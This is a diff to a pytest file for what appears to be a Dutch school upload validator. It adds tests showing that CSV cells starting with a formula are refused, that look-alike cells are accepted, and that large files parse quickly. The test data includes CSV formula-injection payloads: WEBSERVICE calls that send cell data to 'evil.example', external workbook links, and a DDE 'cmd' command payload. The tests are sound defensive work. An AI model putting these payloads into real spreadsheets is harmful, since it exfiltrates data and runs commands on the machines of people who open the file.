@@ -1,6 +1,7 @@
 """What is taken and what is refused, told by content."""
 
 import zlib
+from contextlib import suppress
 from io import BytesIO
 from random import Random
 from time import process_time
@@ -114,6 +115,92 @@ def test_document_that_pretends_or_acts_is_refused_in_words(name, content, words
 def test_table_with_a_formula_is_refused(name, content):
     with pytest.raises(ValidationError, match="begint een cel met een formule"):
         check_document(upload(name, content))
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '+A1&WEBSERVICE("http://evil.example/"&B1)',
+        "+(WEBSERVICE(A1))",
+        "+ WEBSERVICE(A1)",
+        '+ WEBSERVICE ("http://evil.example")',
+        "-B2+HYPERLINK(A1)",
+        "+$A$1&WEBSERVICE(A1)",
+        "+1&WEBSERVICE(A1)",
+        "+2^WEBSERVICE(A1)",
+        "+LOG10(1)&WEBSERVICE(A1)",
+        "@A1&WEBSERVICE(A1)",
+        '"+""x""&WEBSERVICE(A1)"',
+        '"+""x;y,z""&WEBSERVICE(A1)"',
+        '"=""x""&WEBSERVICE(A1)"',
+        '"+A1"&WEBSERVICE(A1)',
+        '""+WEBSERVICE(A1)',
+        "+{1.2}&een WEBSERVICE(A1)",
+        "+'http://evil.example/[x.xlsx]S'!A1",
+        "+[x.xlsx]S!$A$1",
+        "+'http://evil.example/x.ods'#$S.A1",
+        f"+cmd|'/C calc {'x' * 200}'!A0",
+        " =1+1",
+        "\u00a0=1+1",
+        "\u200b=1+1",
+        "\uff1d1+1",
+    ],
+)
+@pytest.mark.parametrize("line", ["{}\n", "naam;aantal\n12;{}\n", "12,{}", "12\t{}\tx"])
+def test_formula_is_refused_however_it_begins(cell, line):
+    with pytest.raises(ValidationError, match="begint een cel met een formule"):
+        check_document(upload("tabel.csv", line.format(cell).encode()))
+
+
+@pytest.mark.parametrize(
+    "content",
+    ["+{1,2}&LOG10(A1);3\n", "+{1;2}&LOG10(A1),3\n", "sep=|\n12| =1+1\n", "\ufeff=1+1\n"],
+)
+def test_formula_is_refused_however_the_file_is_cut(content):
+    with pytest.raises(ValidationError, match="begint een cel met een formule"):
+        check_document(upload("tabel.csv", content.encode()))
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "-5",
+        "-3,5",
+        "+32 2 123",
+        "+32 (0)2 219 42 99",
+        "-leerling(en)",
+        "- leerling(en/-groepen) van de ICT-coördinator(m/v)",
+        "- foto('s) en image(s)",
+        "- zie f(x) = 2x van STEM(3)",
+        "- Klassenraad (4de jaar), zaal (A1)",
+        "- hyperlink (zie de site)",
+        "- [x] klaar!",
+        "- 'De Brug'! en c:\\map",
+        "-A1",
+        "@school",
+        "=> zie website(s)",
+        "====",
+        '="001"',
+        '"=""001"""',
+        "'=1+1",
+        "-;functie(s)",
+        "5 =1+1",
+    ],
+)
+@pytest.mark.parametrize("line", ["{}\n", "naam;aantal\n12;{};3\n"])
+def test_cell_that_only_looks_like_a_formula_is_taken(cell, line):
+    assert check_document(upload("tabel.csv", line.format(cell).encode())) == "csv"
+
+
+@pytest.mark.parametrize("piece", [';"+;""+', "+;|", "-[", "-'/", '"-""', "- (", "; ", "-a.("])
+def test_table_of_megabytes_is_read_once(piece):
+    content = (piece * 400_000)[:400_000].encode()
+    began = process_time()
+
+    with suppress(ValidationError):
+        check_document(upload("tabel.csv", content))
+
+    assert process_time() - began < 3
 
 
 @pytest.mark.parametrize("name", ["lijst.txt", "lijst.csv"])
